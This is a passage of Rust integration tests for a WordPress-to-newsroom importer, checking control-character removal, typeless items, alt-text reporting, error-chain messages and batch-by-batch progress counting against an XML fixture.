<content:encoded><![CDATA[<p>Ding\u{1}\tdong</p>]]></content:encoded><excerpt:encoded><![CDATA[]]></excerpt:encoded>
<wp:post_id>1</wp:post_id><wp:post_date_gmt>2020-01-01 10:00:00</wp:post_date_gmt><wp:post_name>bell</wp:post_name>
<wp:status>publish</wp:status><wp:post_type>post</wp:post_type>
<wp:comment><wp:comment_id>5</wp:comment_id><wp:comment_author>Ann\u{1b}</wp:comment_author><wp:comment_content>Loud\u{8}!</wp:comment_content><wp:comment_approved>1</wp:comment_approved><wp:comment_parent>0</wp:comment_parent></wp:comment>
</item>
<item><title>No type</title><link>https://odd.example/no-type/</link><dc:creator>ed</dc:creator>
<content:encoded><![CDATA[<p>Typeless.</p><p><img src=\"https://odd.example/a.jpg\"> <img src=\"https://odd.example/b.jpg\" alt=\"\"></p>]]></content:encoded>
<wp:post_id>2</wp:post_id><wp:post_date_gmt>2020-01-02 10:00:00</wp:post_date_gmt><wp:post_name>no-type</wp:post_name>
<wp:status>publish</wp:status></item>
</channel>
</rss>
";

async fn control_characters_typeless_items_and_errors_said_once(db: &TestDb) {
    let newsroom = db.newsroom().await;
    let dir = scratch("odd");
    let file = dir.join("odd.xml");
    std::fs::write(&file, ODD_ITEMS).expect("write");
    let report = import(&newsroom, &file).await.expect("the import succeeds");
    let text = report.to_string();
    let store = newsroom.store();
    let bell = store.published_article("bell").await.expect("q").expect("imported");
    assert_eq!(bell.summary.headline, "Bell rings");
    assert_eq!(bell.body_html.trim_end(), "<p>Ding\tdong</p>");
    let comments = store.list_comments(CommentStatus::Approved, 10).await.expect("comments");
    assert_eq!((comments[0].name.as_str(), comments[0].text.as_str()), ("Ann", "Loud!"));
    assert!(text.contains("Control characters: removed from 2 items"), "{text}");
    assert!(text.contains("post 1 (line 10)") && text.contains("comment 5"), "{text}");
    let typeless = store.published_article("no-type").await.expect("q");
    assert!(typeless.is_some(), "an item without a type is a post: {text}");
    // Images without alt text come in as they are, and the report says where.
    assert_eq!(report.alt_text.undescribed.len(), 1, "{text}");
    assert!(report.alt_text.undescribed[0].starts_with("post 2 "), "{text}");
    assert!(report.alt_text.undescribed[0].ends_with(": 1 body image"), "{text}");
    assert!(text.contains("Alt text:          1 published or scheduled posts"), "{text}");
    assert!(text.contains("Empty alt text:    1 body images have alt=\"\""), "{text}");

    // A broken file's message is said once, also where the causes are printed in a chain
    // (`lede: {error:#}`).
    let broken = dir.join("broken.xml");
    std::fs::write(&broken, ODD_ITEMS.replace("</wp:post_id>", "</wp:post_ID>")).expect("write");
    let error = import(&newsroom, &broken).await.expect_err("malformed");
    let mut chain = error.to_string();
    let mut cause = std::error::Error::source(&error);
    while let Some(inner) = cause {
        chain.push_str(&format!(": {inner}"));
        cause = inner.source();
    }
    let message = error.to_string();
    let (_, problem) = message.split_once(": ").expect("the file, then the problem");
    assert!(problem.starts_with("line 12:"), "{message}");
    assert_eq!(chain.matches(problem).count(), 1, "{chain}");
    std::fs::remove_dir_all(dir).ok();
}

/// What a progress bar was told: each stage with its total, and the positions it was moved to.
#[derive(Default)]
struct Recorded(Vec<(&'static str, u64, Vec<u64>)>);

impl Progress for Recorded {
    fn stage(&mut self, name: &'static str, total: u64) {
        self.0.push((name, total, Vec::new()));
    }

    fn advance(&mut self, done: u64) {
        if let Some((_, _, positions)) = self.0.last_mut() {
            positions.push(done);
        }
    }

    fn finish(&mut self) {}
}

/// The writing stage's bar counts articles, moving after every batch, up to all of them.
async fn the_progress_bar_counts_articles_batch_by_batch(db: &TestDb) {
    let newsroom = db.newsroom().await;
    let pace =
        ImportPace { items: 20, hold: std::time::Duration::from_secs(3600), ..Default::default() };
    let media = MediaStore::local(scratch("media")).expect("a media folder");
    let options = ImportOptions { media_source: None, media, pace };
    let mut recorded = Recorded::default();
    let report = lede_import::import_wordpress(&newsroom, &theme_data(), &options, &mut recorded)
        .await
        .expect("the import succeeds");
    let (_, total, positions) =
        recorded.0.iter().find(|(name, _, _)| *name == "Writing").expect("a writing stage");
    assert_eq!(*total, report.outcome.created.articles);
    assert_eq!(*total, 58);
    assert_eq!(positions[..3], [20, 40, 58], "{positions:?}");
    assert!(positions[3..].iter().all(|p| *p == 58), "then pages and comments: {positions:?}");
}
